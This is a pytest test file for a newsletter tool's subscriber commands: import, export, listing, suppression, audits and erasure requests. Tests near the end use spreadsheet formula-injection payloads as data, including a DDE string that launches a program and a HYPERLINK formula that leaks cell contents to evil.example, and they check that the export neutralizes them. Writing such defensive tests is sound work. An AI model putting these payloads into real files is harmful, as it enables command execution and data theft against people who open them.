"""`digest subscribers`: the operator's commands on a real database and the real pipeline
(issue #11, points 1, 4 and 8)."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import subprocess
import sys
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from digest.clock import FixedClock
from digest.sample_server import serve_folder
from digest.store import SubscriberInput
from digest.store.schema import DeliveryRow, FileMarkRow, SubscriberRow
from digest.suppression import read_suppressions
from digest.unsubscribes import unsubscribe
from tests.test_lists import DAY1, a_list, raw_config, recipients, run, settings_of, start
from tests.test_lists_cli import digest, write_config
from tests.test_pipeline import write_feed


@pytest.fixture
def base_url(tmp_path: Path) -> Iterator[str]:
    folder = tmp_path / "feeds"
    folder.mkdir()
    write_feed(folder, [(1, "Iran story 1", DAY1 - timedelta(hours=1))])
    with serve_folder(folder) as url:
        yield url


READERS = "email,name\nsam@example.org,Sam\nrana@example.org,Rana\n"


def config_without_file(tmp_path: Path, base_url: str) -> tuple[Path, dict[str, Any]]:
    """A list whose readers come only from `digest subscribers import`."""
    raw = raw_config(tmp_path, base_url, a_list("daily", "members.csv"))
    del raw["lists"][0]["subscribers"]
    return write_config(tmp_path, raw), raw


def test_import_prints_the_report_and_each_refusal_with_its_line(
    tmp_path: Path, base_url: str
) -> None:
    config, _ = config_without_file(tmp_path, base_url)
    (tmp_path / "new.csv").write_text(
        "email,name,timezone\nsam@example.org,Sam,\nbroken,,\nli@example.org,Li,Nowhere/City\n"
    )
    result = digest(config, "subscribers", "import", str(tmp_path / "new.csv"), "--list", "daily")
    assert result.exit_code == 0, result.output
    assert "1 added, 0 updated, 0 unchanged, 2 refused" in result.stdout
    assert "  line 3: 'broken' is not an email address" in result.stderr
    assert "  line 4: unknown timezone 'Nowhere/City'" in result.stderr
    assert "1 new readers are pending" in result.stdout and "--confirmed" in result.stdout

    listed = digest(config, "subscribers", "list", "--json")
    assert listed.exit_code == 0, listed.output
    [member] = json.loads(listed.stdout)
    assert {"email", "list", "status"} <= set(member)
    assert (member["email"], member["list"], member["status"]) == (
        "sam@example.org",
        "daily",
        "pending",
    )
    assert member["channel"] == "import" and member["suppressed"] is None

    unknown = digest(config, "subscribers", "import", str(tmp_path / "new.csv"), "--list", "dialy")
    assert unknown.exit_code == 2 and "No list 'dialy'" in unknown.stderr
    missing = digest(config, "subscribers", "import", str(tmp_path / "gone.csv"), "--list", "daily")
    assert missing.exit_code == 1 and "gone.csv" in missing.stderr
    assert "Traceback" not in missing.output


def test_subscribers_list_json_writes_names_as_they_are_written(
    tmp_path: Path, base_url: str
) -> None:
    # As every other --json: a reader's name in Arabic or Greek is read in the output, not as
    # \u escapes, while what a terminal would obey is still escaped.
    config, _ = config_without_file(tmp_path, base_url)
    (tmp_path / "new.csv").write_text(
        "email,name\nmaryam@example.org,مريم\nnikos@example.org,Νίκος\n", encoding="utf-8"
    )
    imported = digest(config, "subscribers", "import", str(tmp_path / "new.csv"), "--list", "daily")
    assert imported.exit_code == 0, imported.output
    listed = digest(config, "subscribers", "list", "--json")
    assert listed.exit_code == 0, listed.output
    assert "مريم" in listed.stdout and "Νίκος" in listed.stdout
    assert {member["name"] for member in json.loads(listed.stdout)} == {"مريم", "Νίκος"}


def test_a_long_list_is_printed_a_page_at_a_time(tmp_path: Path, base_url: str) -> None:
    # rich lays a table out from all its rows: 200,000 readers held a gigabyte and printed
    # nothing for two minutes. Pages of one layout print as they are read.
    config, _ = config_without_file(tmp_path, base_url)
    readers = 4_000
    (tmp_path / "many.csv").write_text(
        "email,name\n" + "".join(f"reader{n:04}@example.org,Reader {n}\n" for n in range(readers))
    )
    imported = digest(
        config, "subscribers", "import", str(tmp_path / "many.csv"), "--list", "daily"
    )
    assert imported.exit_code == 0, imported.output
    tracemalloc.start()
    try:
        listed = digest(config, "subscribers", "list")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert listed.exit_code == 0, listed.output
    lines = listed.stdout.splitlines()
    emails = [word for line in lines for word in line.split() if "@example.org" in word]
    assert emails == [f"reader{n:04}@example.org" for n in range(readers)]
    assert sum("email" in line.split() for line in lines) == 1  # one header
    widths = {len(line) for line in lines if "@example.org" in line}
    assert len(widths) == 1  # every page laid out alike
    assert peak < readers * 2_000


def test_a_vouched_import_of_an_export_says_which_readers_stay_pending(
    tmp_path: Path, base_url: str
) -> None:
    config, _ = config_without_file(tmp_path, base_url)
    (tmp_path / "export.csv").write_text(
        "email,name,timezone,list,status\n"
        "sam@example.org,Sam,,daily,confirmed\n"
        "pat@example.org,Pat,,daily,pending\n"
    )
    result = digest(
        config,
        "subscribers",
        "import",
        str(tmp_path / "export.csv"),
        "--list",
        "daily",
        "--confirmed",
    )
    assert result.exit_code == 0, result.output
    assert "1 new readers are pending: the file's status column says they never confirmed" in (
        result.stdout
    )
    listed = json.loads(digest(config, "subscribers", "list", "--json").stdout)
    assert {m["email"]: m["status"] for m in listed} == {
        "sam@example.org": "confirmed",
        "pat@example.org": "pending",
    }


def test_an_export_made_before_the_list_was_renamed_is_imported_into_it(
    tmp_path: Path, base_url: str
) -> None:
    # The export's list column names the list as it was called then; the list is renamed
    # since (previous_slugs). Every row was refused ("this row is for list 'morning'"), and
    # --list morning is no list of the config any more: the export could not be imported.
    raw = raw_config(tmp_path, base_url, a_list("daily", "members.csv", previous_slugs=["morning"]))
    del raw["lists"][0]["subscribers"]
    config = write_config(tmp_path, raw)
    (tmp_path / "export.csv").write_text(
        "email,name,timezone,list,status,channel,changed_at\n"
        "sam@example.org,Sam,,morning,confirmed,import,2026-11-20T08:00:00+00:00\n"
        "rana@example.org,Rana,,morning,unsubscribed,one-click,2026-11-21T08:00:00+00:00\n"
        "li@example.org,Li,,weekly,confirmed,import,2026-11-20T08:00:00+00:00\n"
    )
    export = str(tmp_path / "export.csv")
    imported = digest(config, "subscribers", "import", export, "--list", "daily", "--confirmed")
    assert "2 added, 0 updated, 0 unchanged, 1 refused" in imported.stdout, imported.output
    assert "line 4: this row is for list 'weekly', not 'daily'" in imported.stderr
    listed = json.loads(digest(config, "subscribers", "list", "--json").stdout)
    assert sorted((m["email"], m["list"], m["status"]) for m in listed) == [
        ("rana@example.org", "daily", "unsubscribed"),
        ("sam@example.org", "daily", "confirmed"),
    ]


def test_the_topics_a_reader_chose_go_with_an_export_into_a_new_database(
    tmp_path: Path, base_url: str
) -> None:
    # The export had no topics column, and an import none: moved to a new database (a new
    # server, SQLite to PostgreSQL), a reader who had chosen one topic of the list got all.
    config, raw = config_without_file(tmp_path, base_url)
    raw["topics"].append(
        {
            "slug": "gulf",
            "name": "Gulf",
            "rules": {"include": ["Gulf"]},
            "previous_slugs": ["khaleej"],
        }
    )
    raw["lists"][0]["topics"] = ["middle-east", "gulf"]
    config = write_config(tmp_path, raw)
    (tmp_path / "readers.csv").write_text(READERS)
    digest(
        config,
        "subscribers",
        "import",
        str(tmp_path / "readers.csv"),
        "--list",
        "daily",
        "--confirmed",
    )
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    sam = services.store.subscriber_by_email("sam@example.org")
    assert sam is not None and services.store.choose_topics(sam.id, "daily", ["gulf"])
    services.close()
    export = tmp_path / "out.csv"
    assert digest(config, "subscribers", "export", "-o", str(export)).exit_code == 0
    rows = {row["email"]: row["topics"] for row in csv.DictReader(export.open())}
    assert rows == {"sam@example.org": "gulf", "rana@example.org": ""}
    # By hand: a topic's former slug names it; a topic of no list of the row is refused.
    with export.open("a") as file:
        file.write("li@example.org,Li,,daily,confirmed,import,2026-11-20T08:00:00+00:00,khaleej\n")
        file.write("omar@example.org,,,daily,confirmed,import,2026-11-20T08:00:00+00:00,sport\n")

    raw["service"]["database_url"] = f"sqlite:///{tmp_path / 'new.db'}"
    moved = write_config(tmp_path, raw)
    imported = digest(moved, "subscribers", "import", str(export), "--list", "daily", "--confirmed")
    assert "3 added, 0 updated, 0 unchanged, 1 refused" in imported.stdout, imported.output
    said = " ".join(imported.stderr.split())
    assert "line 5: topic 'sport' is not one of list 'daily''s topics (middle-east, gulf)" in said
    listed = json.loads(digest(moved, "subscribers", "list", "--json").stdout)
    assert {m["email"]: m["topics"] for m in listed} == {
        "sam@example.org": ["gulf"],
        "rana@example.org": None,
        "li@example.org": ["gulf"],
    }
    # A reader's own choice is theirs: a file changes no choice of a member it finds.
    (tmp_path / "again.csv").write_text("email,topics\nsam@example.org,middle-east\n")
    digest(moved, "subscribers", "import", str(tmp_path / "again.csv"), "--list", "daily")
    listed = json.loads(digest(moved, "subscribers", "list", "--json").stdout)
    assert {m["email"]: m["topics"] for m in listed}["sam@example.org"] == ["gulf"]


def test_a_reader_removed_after_a_rename_before_the_next_cycle_stays_out(
    tmp_path: Path, base_url: str
) -> None:
    # The list was renamed in the config; its members are carried over to the new slug at the
    # next cycle. Removed before that cycle, a member was "not a member of list daily", and the
    # cycle carried them over and mailed them.
    raw = raw_config(tmp_path, base_url, a_list("morning", "members.csv"))
    services, transport = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    run(services)
    services.close()
    assert len(recipients(transport)) == 3
    story = [(1, "Iran story 1", DAY1 - timedelta(hours=1)), (2, "Iran story 2", DAY1)]
    write_feed(tmp_path / "feeds", story)
    raw = raw_config(tmp_path, base_url, a_list("daily", "members.csv", previous_slugs=["morning"]))
    config = write_config(tmp_path, raw)
    removed = digest(config, "subscribers", "remove", "RANA@example.org", "--list", "daily")
    assert removed.exit_code == 0, removed.output
    assert "rana@example.org unsubscribed from list daily" in removed.stdout.lower()
    services, transport = start(settings_of(tmp_path, raw), FixedClock(DAY1 + timedelta(days=1)))
    run(services)
    services.close()
    assert recipients(transport) == ["li@example.org", "sam@example.org"]


def test_only_confirmed_readers_get_mail_and_a_removed_one_stays_out(
    tmp_path: Path, base_url: str
) -> None:
    config, raw = config_without_file(tmp_path, base_url)
    (tmp_path / "vouched.csv").write_text(READERS)
    (tmp_path / "signups.csv").write_text("email\nli@example.org\n")
    for name, flags in (("vouched.csv", ["--confirmed"]), ("signups.csv", [])):
        done = digest(
            config, "subscribers", "import", str(tmp_path / name), "--list", "daily", *flags
        )
        assert done.exit_code == 0, done.output
    removed = digest(config, "subscribers", "remove", "Rana@Example.org", "--list", "daily")
    assert removed.exit_code == 0, removed.output
    again = digest(config, "subscribers", "remove", "nobody@example.org", "--list", "daily")
    assert again.exit_code == 1 and "not a member of list daily" in again.stderr

    services, transport = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    summary = run(services)
    assert recipients(transport) == ["sam@example.org"]  # li pending, rana removed
    assert summary.messages_delivered == 1
    services.close()
    # Re-imported as vouched for, rana stays out: the operator's removal is final too.
    done = digest(
        config,
        "subscribers",
        "import",
        str(tmp_path / "vouched.csv"),
        "--list",
        "daily",
        "--confirmed",
    )
    assert "0 added, 0 updated, 1 unchanged, 1 refused" in done.stdout
    assert "line 3: unsubscribed from list 'daily'" in done.stderr and "(operator)" in done.stderr


def test_an_address_with_other_letters_before_the_at_is_refused_alike_by_import_and_commands(
    tmp_path: Path, base_url: str
) -> None:
    # A spreadsheet saved as "CSV UTF-8" by Excel: a byte order mark, Arabic names, an IDN
    # domain, and one address whose part before the @ is Arabic, which needs SMTPUTF8.
    config, _ = config_without_file(tmp_path, base_url)
    rows = "email,name\r\nrana@مثال.إختبار,رنا حداد\r\nعلي@example.com,علي\r\n"
    (tmp_path / "readers.csv").write_bytes(codecs.BOM_UTF8 + rows.encode())
    result = digest(
        config, "subscribers", "import", str(tmp_path / "readers.csv"), "--list", "daily"
    )
    assert result.exit_code == 0, result.output
    assert "1 added, 0 updated, 0 unchanged, 1 refused" in result.stdout
    why = "has letters outside ASCII before the @: such an address needs SMTPUTF8"
    assert f"  line 3: 'علي@example.com' {why}" in result.stderr
    listed = json.loads(digest(config, "subscribers", "list", "--json").stdout)
    assert [member["email"] for member in listed] == ["rana@xn--mgbh0fb.xn--kgbechtv"]
    for command in ("suppress", "remove"):
        extra = ("--list", "daily") if command == "remove" else ()
        refused = digest(config, "subscribers", command, "علي@example.com", *extra)
        assert refused.exit_code == 2, (command, refused.output)
        assert why in refused.stderr, command


def test_suppress_stops_every_list_and_export_reads_back_as_an_import(
    tmp_path: Path, base_url: str
) -> None:
    raw = raw_config(
        tmp_path, base_url, a_list("daily", "members.csv"), a_list("weekly", "weekly.csv")
    )
    config = write_config(tmp_path, raw)
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    run(services)  # imports both files
    services.close()
    bad = digest(config, "subscribers", "suppress", "omar@example.org", "--reason", "spam")
    assert bad.exit_code == 2 and "Unknown reason 'spam'" in bad.stderr
    done = digest(config, "subscribers", "suppress", "OMAR@example.org", "--reason", "complaint")
    assert done.exit_code == 0 and "suppressed for every list" in done.stdout
    listed = json.loads(digest(config, "subscribers", "list", "--list", "weekly", "--json").stdout)
    assert {m["email"]: m["suppressed"] for m in listed}["omar@example.org"] == "complaint"

    exported = digest(
        config, "subscribers", "export", "--list", "daily", "-o", str(tmp_path / "out.csv")
    )
    assert exported.exit_code == 0, exported.output
    lines = (tmp_path / "out.csv").read_text().splitlines()
    assert lines[0] == "email,name,timezone,list,status,channel,changed_at,topics"
    assert len(lines) == 4
    # The export imported into another list: the same readers, confirmed.
    back = digest(config, "subscribers", "import", str(tmp_path / "out.csv"), "--list", "daily")
    assert "0 added, 0 updated, 3 unchanged, 0 refused" in back.stdout
    elsewhere = digest(
        config, "subscribers", "import", str(tmp_path / "out.csv"), "--list", "weekly"
    )
    assert "3 refused" in elsewhere.stdout and "this row is for list 'daily'" in elsewhere.stderr
    # The suppression reaches the file at the next cycle, for a new database to find.
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    run(services)
    assert read_suppressions(services.settings.service.suppression_path).holds(
        "omar@example.org", "daily"
    )
    services.close()


def test_audit_flags_a_burst_of_unsubscribes_from_one_domain(tmp_path: Path, base_url: str) -> None:
    config, raw = config_without_file(tmp_path, base_url)
    scanned = [f"staff{n}@bigcorp.example.org" for n in range(6)]
    spread = [f"reader{n}@example.org" for n in range(6)]
    (tmp_path / "all.csv").write_text("email\n" + "\n".join(scanned + spread) + "\n")
    digest(
        config, "subscribers", "import", str(tmp_path / "all.csv"), "--list", "daily", "--confirmed"
    )
    quiet = digest(config, "subscribers", "audit")
    assert quiet.exit_code == 0 and "0 bursts" in quiet.stdout
    now = datetime.now(UTC) - timedelta(hours=3)
    clock = FixedClock(now)
    services, _ = start(settings_of(tmp_path, raw), clock)
    by_email = {s.email: s.id for s in services.store.confirmed_subscribers("daily")}
    for number, email in enumerate(scanned):  # a scanner POSTs to every link, seconds apart
        clock.set(now + timedelta(seconds=20 * number))
        assert unsubscribe(services, by_email[email], "daily", "one-click")
    for number, email in enumerate(spread):  # readers leaving over the day, each on their own
        clock.set(now + timedelta(minutes=25 * number))
        assert unsubscribe(services, by_email[email], "daily", "unsubscribe-page")
    services.close()
    flagged = digest(config, "subscribers", "audit", "--minutes", "10", "--threshold", "5")
    assert flagged.exit_code == 1, flagged.output
    assert "12 unsubscribes in the last 30 days; 1 burst of" in flagged.stdout
    [row] = [line for line in flagged.stdout.splitlines() if "bigcorp" in line]
    assert "│ 6 " in row and "one-click 6" in row
    assert sum("example.org" in line for line in flagged.stdout.splitlines()) == 1


def test_an_audit_asked_to_look_further_back_than_dates_go_says_so(
    tmp_path: Path, base_url: str
) -> None:
    # "--days 100000000" reached before year 1: an OverflowError's traceback, as did minutes
    # past what a timedelta holds.
    config, _ = config_without_file(tmp_path, base_url)
    for option, value in (("--days", "100000000"), ("--minutes", "2000000000000")):
        answer = digest(config, "subscribers", "audit", option, value)
        assert answer.exit_code == 2, answer.output
        assert "Traceback" not in answer.output and answer.exception is not None
        assert isinstance(answer.exception, SystemExit)
        assert f"Invalid value for '{option}'" in answer.output
    assert digest(config, "subscribers", "audit", "--days", "36500").exit_code == 0


def test_a_suppression_file_read_into_a_new_database_is_no_burst_of_the_audit(
    tmp_path: Path, base_url: str
) -> None:
    # Moving to a new database, the suppression file's lines are applied at its first cycle,
    # all at that moment: six readers of one domain who left over a year were a "burst" of six
    # unsubscribes within a second, and the audit exited 1 as for a link scanner.
    raw = raw_config(tmp_path, base_url)
    config = write_config(tmp_path, raw)
    path = tmp_path / "var" / "suppressed.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        "email,list,reason,at\n"
        + "".join(
            f"r{n}@bigcorp.example,daily,one-click,2025-{n + 1:02d}-01T08:00:00+00:00\n"
            for n in range(6)
        )
    )
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    run(services)
    left = [m for m in services.store.memberships("daily") if "bigcorp" in m.email]
    assert [m.status for m in left] == ["unsubscribed"] * 6  # as the file says
    services.close()
    audited = digest(config, "subscribers", "audit", "--days", "36500")
    assert audited.exit_code == 0, audited.output
    assert "0 bursts" in audited.stdout


def test_people_forgotten_one_after_another_are_no_burst_of_the_audit(
    tmp_path: Path, base_url: str
) -> None:
    # Five erasure requests handled in a row: each forget ends the person's memberships, and
    # their addresses all became "forgotten-ID@forgotten.invalid", one "domain" to the audit,
    # which flagged a burst and exited 1 as for a link scanner.
    config, _ = config_without_file(tmp_path, base_url)
    people = [
        f"p{n}@{domain}" for n, domain in enumerate(("a.org", "b.net", "c.com", "d.de", "e.fr"))
    ]
    (tmp_path / "people.csv").write_text("email\n" + "".join(f"{p}\n" for p in people))
    imported = digest(
        config,
        "subscribers",
        "import",
        str(tmp_path / "people.csv"),
        "--list",
        "daily",
        "--confirmed",
    )
    assert "5 added" in imported.stdout, imported.output
    for person in people:
        assert digest(config, "subscribers", "forget", person, "--yes").exit_code == 0
    audited = digest(config, "subscribers", "audit", "--minutes", "10", "--threshold", "5")
    assert audited.exit_code == 0, audited.output
    assert "forgotten" not in audited.stdout and "0 bursts" in audited.stdout


def test_forget_leaves_no_copy_of_the_address_in_what_a_files_import_said(
    tmp_path: Path, base_url: str
) -> None:
    # The list's file has the person twice: its import's warning, kept with the file's mark
    # and said again at every cycle while the file is unchanged, quotes their address.
    raw = raw_config(tmp_path, base_url)
    (tmp_path / "members.csv").write_text(
        "email,name\nsam@example.org,Sam\nrana@example.org,Rana\nSAM@example.org,Sam\n"
    )
    config = write_config(tmp_path, raw)
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    assert any("duplicate email 'SAM@example.org'" in p for p in run(services).problems)
    services.close()
    assert digest(config, "subscribers", "forget", "sam@example.org", "--yes").exit_code == 0
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1 + timedelta(days=1)))
    said = run(services).problems
    with services.store.transaction() as session:
        notes = " ".join(n or "" for n in session.scalars(select(FileMarkRow.notes)))
    services.close()
    assert not any("sam@example.org" in problem.lower() for problem in said), said
    assert "sam@example.org" not in notes.lower()


def test_forget_finds_an_address_written_with_its_internationalized_domain(
    tmp_path: Path, base_url: str
) -> None:
    # Imports hold the domain in IDNA; the person's request writes it as they read it.
    config, _ = config_without_file(tmp_path, base_url)
    (tmp_path / "idn.csv").write_text("email,name\nsam@bücher.example,Sam\n", encoding="utf-8")
    imported = digest(
        config, "subscribers", "import", str(tmp_path / "idn.csv"), "--list", "daily", "--confirmed"
    )
    assert "1 added" in imported.stdout, imported.output
    person = json.loads(digest(config, "subscribers", "export-person", "Sam@Bücher.example").stdout)
    assert person["subscriber"]["name"] == "Sam"
    forgotten = digest(config, "subscribers", "forget", "sam@bücher.example", "--yes")
    assert forgotten.exit_code == 0, forgotten.output
    assert "sam@bücher.example: erased; 1 membership ended" in forgotten.stdout
    assert json.loads(digest(config, "subscribers", "list", "--json").stdout) == []
    again = digest(
        config, "subscribers", "import", str(tmp_path / "idn.csv"), "--list", "daily", "--confirmed"
    )
    assert "0 added" in again.stdout and "forgotten at its owner's request" in again.stderr


def test_forget_takes_the_persons_lines_out_of_the_suppression_file_however_written(
    tmp_path: Path, base_url: str
) -> None:
    # The operator's own lines write the address as the person gave it: its domain in Unicode,
    # in another case. The service reads them as the address it holds, so forgetting must too.
    config, _ = config_without_file(tmp_path, base_url)
    path = tmp_path / "var" / "suppressed.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        "email,list,reason,at\n"
        "Sam@Bücher.example,daily,operator,2026-11-20T08:00:00+00:00\n"
        "other@example.org,,operator,2026-11-20T08:00:00+00:00\n"
        " SAM@bücher.example ,,complaint,2026-11-21T08:00:00+00:00\n",
        encoding="utf-8",
    )
    forgotten = digest(config, "subscribers", "forget", "sam@xn--bcher-kva.example", "--yes")
    assert forgotten.exit_code == 0, forgotten.output
    assert "2 lines" in forgotten.stdout, forgotten.stdout
    left = path.read_text(encoding="utf-8")
    assert "bücher" not in left.lower() and "sam" not in left.lower()
    assert "other@example.org,,operator," in left


def test_forget_of_an_address_pasted_with_its_name_erases_that_person(
    tmp_path: Path, base_url: str
) -> None:
    # A privacy request forwarded by mail: the operator pastes the sender as the mail program
    # shows it. It was taken as given, found nobody ("not found; its key is kept all the
    # same"), and the person stayed, mailed and listed.
    config, _ = config_without_file(tmp_path, base_url)
    (tmp_path / "one.csv").write_text("email,name\njane@bücher.example,Jane\n", encoding="utf-8")
    digest(config, "subscribers", "import", str(tmp_path / "one.csv"), "--list", "daily")
    pasted = "Jane Doe <Jane@Bücher.example>"
    person = json.loads(digest(config, "subscribers", "export-person", pasted).stdout)
    assert person["subscriber"]["name"] == "Jane"
    forgotten = digest(config, "subscribers", "forget", pasted, "--yes")
    assert forgotten.exit_code == 0, forgotten.output
    assert ": erased; 1 membership ended" in forgotten.stdout
    assert json.loads(digest(config, "subscribers", "list", "--json").stdout) == []


def test_forget_erases_a_person_and_refuses_them_at_every_later_import(
    tmp_path: Path, base_url: str
) -> None:
    raw = raw_config(tmp_path, base_url)
    config = write_config(tmp_path, raw)
    services, transport = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    run(services)
    rana = next(s for s in services.store.confirmed_subscribers("daily") if s.name == "Rana")
    assert unsubscribe(services, rana.id, "daily", "one-click")
    with services.store.transaction() as session:  # a bounce text that quotes the address
        session.query(DeliveryRow).filter_by(subscriber_id=rana.id).update(
            {"last_error": "550 <rana@example.org> unknown"}
        )
    services.close()
    assert "rana@example.org" in (tmp_path / "var" / "suppressed.csv").read_text()

    person = json.loads(digest(config, "subscribers", "export-person", "RANA@example.org").stdout)
    assert person["subscriber"]["name"] == "Rana"
    assert [m["status"] for m in person["memberships"]] == ["unsubscribed"]
    assert [h["to"] for h in person["history"]] == ["confirmed", "unsubscribed"]
    assert [d["status"] for d in person["deliveries"]] == ["sent"]

    forgotten = digest(config, "subscribers", "forget", "rana@example.org", "--yes")
    assert forgotten.exit_code == 0, forgotten.output
    assert "erased" in forgotten.stdout and "1 delivery anonymised" in forgotten.stdout
    assert "rana" not in (tmp_path / "var" / "suppressed.csv").read_text().lower()
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    with services.store.transaction() as session:
        emails = set(session.scalars(select(SubscriberRow.email)))
        errors = set(session.scalars(select(DeliveryRow.last_error)))
    assert not any("rana" in text.lower() for text in emails | {e or "" for e in errors})
    services.close()
    after = json.loads(digest(config, "subscribers", "export-person", "rana@example.org").stdout)
    assert after["subscriber"] is None and after["suppression"]["reason"] == "forgotten"

    # The file still lists her, and is imported again (changed): she is refused, and why.
    (tmp_path / "members.csv").write_text((tmp_path / "members.csv").read_text() + "\n")
    again = digest(
        config, "subscribers", "import", str(tmp_path / "members.csv"), "--list", "daily"
    )
    assert "line 3: this address was forgotten at its owner's request" in again.stderr
    services, transport = start(settings_of(tmp_path, raw), FixedClock(DAY1 + timedelta(days=1)))
    summary = run(services)
    assert "rana@example.org" not in recipients(transport)
    assert any("1 rows are readers who unsubscribed" in p for p in summary.problems)
    services.close()


def test_an_address_that_starts_as_a_formula_is_exported_as_text_and_read_back(
    tmp_path: Path, base_url: str
) -> None:
    # Valid addresses, which anyone's sign-up form can record: "=cmd|'/Ccalc'!A0" is a local
    # part of allowed characters, and a spreadsheet opening the export would run it.
    config, _ = config_without_file(tmp_path, base_url)
    hostile = ["=cmd|'/Ccalc'!A0@example.org", "+1+2@example.org", "-x@example.org"]
    (tmp_path / "new.csv").write_text("email\n" + "".join(f"{a}\n" for a in hostile))
    added = digest(config, "subscribers", "import", str(tmp_path / "new.csv"), "--list", "daily")
    assert "3 added" in added.stdout, added.output
    out = tmp_path / "out.csv"
    assert digest(config, "subscribers", "export", "-o", str(out)).exit_code == 0
    exported = [row["email"] for row in csv.DictReader(out.open())]
    assert sorted(exported) == sorted("'" + address for address in hostile)
    back = digest(config, "subscribers", "import", str(out), "--list", "daily")
    assert "0 added, 0 updated, 3 unchanged, 0 refused" in back.stdout, back.output
    listed = json.loads(digest(config, "subscribers", "list", "--json").stdout)
    assert sorted(member["email"] for member in listed) == sorted(hostile)


def test_an_address_or_name_that_starts_with_an_apostrophe_is_exported_and_read_back_as_itself(
    tmp_path: Path, base_url: str
) -> None:
    # "'=x@example.org" is a valid address (a sign-up form takes it), not "=x@example.org": an
    # export read back made the reader another address, and a name "'=1" became "=1".
    config, raw = config_without_file(tmp_path, base_url)
    services, _ = start(settings_of(tmp_path, raw), FixedClock(DAY1))
    readers = [
        SubscriberInput("'=x@example.org", "'=1+2"),
        SubscriberInput("'o@example.org", "'Tis me"),
    ]
    report = services.store.import_members(
        "daily", readers, DAY1, confirmed=True, address_key=services.address_key
    )
    assert report.added == 2
    services.close()
    out = tmp_path / "out.csv"
    assert digest(config, "subscribers", "export", "-o", str(out)).exit_code == 0
    back = digest(config, "subscribers", "import", str(out), "--list", "daily")
    assert "0 added, 0 updated, 2 unchanged, 0 refused" in back.stdout, back.output
    listed = json.loads(digest(config, "subscribers", "list", "--json").stdout)
    assert sorted((m["email"], m["name"]) for m in listed) == [
        ("'=x@example.org", "'=1+2"),
        ("'o@example.org", "'Tis me"),
    ]


def test_an_export_never_hands_a_spreadsheet_a_formula_and_reads_back_the_same_names(
    tmp_path: Path, base_url: str
) -> None:
    config, _ = config_without_file(tmp_path, base_url)
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    names = [hostile, "-2+3", "@SUM(A1:A9)", "+1 555", "Rana", "'quoted' Sam"]
    rows = "".join(
        f'r{n}@example.org,"{name.replace(chr(34), 2 * chr(34))}"\n' for n, name in enumerate(names)
    )
    (tmp_path / "new.csv").write_text("email,name\n" + rows)
    added = digest(config, "subscribers", "import", str(tmp_path / "new.csv"), "--list", "daily")
    assert "6 added" in added.stdout, added.output

    out = tmp_path / "out.csv"
    assert digest(config, "subscribers", "export", "-o", str(out)).exit_code == 0
    exported = {row["email"]: row["name"] for row in csv.DictReader(out.open())}
    # Every cell a spreadsheet would run starts with the quote that makes it text.
    assert exported["r0@example.org"] == "'" + hostile
    assert exported["r1@example.org"] == "'-2+3" and exported["r3@example.org"] == "'+1 555"
    assert exported["r2@example.org"] == "'@SUM(A1:A9)"
    assert exported["r4@example.org"] == "Rana" and exported["r5@example.org"] == "'quoted' Sam"
    # Read back, the names are the readers' own, unchanged.
    back = digest(config, "subscribers", "import", str(out), "--list", "daily")
    assert "0 added, 0 updated, 6 unchanged, 0 refused" in back.stdout, back.output
    listed = json.loads(digest(config, "subscribers", "list", "--json").stdout)
    assert sorted(member["name"] for member in listed) == sorted(names)


def test_list_shows_an_international_domain_in_its_letters(tmp_path: Path, base_url: str) -> None:
    # The table is read by an operator, who wrote "bücher.de" in the file: the "xn--" form the
    # mail goes out to is kept for --json and the export, which are read back by programs.
    config, _ = config_without_file(tmp_path, base_url)
    (tmp_path / "readers.csv").write_text("email\nsam@bücher.de\n", encoding="utf-8")
    added = digest(
        config, "subscribers", "import", str(tmp_path / "readers.csv"), "--list", "daily"
    )
    assert added.exit_code == 0, added.output
    listed = digest(config, "subscribers", "list")
    assert listed.exit_code == 0, listed.output
    assert "sam@bücher.de" in listed.stdout and "xn--" not in listed.stdout
    as_json = digest(config, "subscribers", "list", "--json")
    assert [member["email"] for member in json.loads(as_json.stdout)] == ["sam@xn--bcher-kva.de"]


def test_list_keeps_its_table_whole_and_shows_names_as_text(tmp_path: Path, base_url: str) -> None:
    # Names as a sign-up form takes them: one long word, a direction override (U+202E shows
    # the rest of the row backwards) and mark, and markup; an address as long as one may be.
    config, _ = config_without_file(tmp_path, base_url)
    long_address = f"{'a' * 60}@{'sub' * 10}.example.org"
    long_name = "Maximilian" * 12
    (tmp_path / "readers.csv").write_text(
        f"email,name\n{long_address},{long_name}\n"
        "rana@example.org,\u202eRana [bold red]x[/] \u200fZ\nsam@example.org,Sam\n",
        encoding="utf-8",
    )
    added = digest(
        config, "subscribers", "import", str(tmp_path / "readers.csv"), "--list", "daily"
    )
    assert added.exit_code == 0, added.output
    # On an 80-column terminal, as a real process sizes its tables.
    command = str(Path(sys.executable).parent / "digest")
    listed = subprocess.run(
        [command, "--config", str(config), "subscribers", "list"],
        capture_output=True,
        text=True,
        env={**os.environ, "COLUMNS": "80"},
        timeout=120,
        check=False,
    )
    assert listed.returncode == 0, listed.stderr
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e]", listed.stdout)
    assert "…" not in listed.stdout  # nothing cut short
    rows = [line for line in listed.stdout.splitlines() if line.startswith("│")]
    assert all(len(line) == 80 and line.endswith("│") for line in rows), listed.stdout
    # Each value whole, read down its column: a row starts where its list is named.
    columns = [[cell.strip() for cell in line.strip("│").split("│")] for line in rows]
    emails: list[str] = []
    names: list[str] = []
    for cells in columns:
        if cells[2]:
            emails.append("")
            names.append("")
        emails[-1] += cells[0]
        names[-1] += cells[1]
    assert emails == [long_address, "rana@example.org", "sam@example.org"]
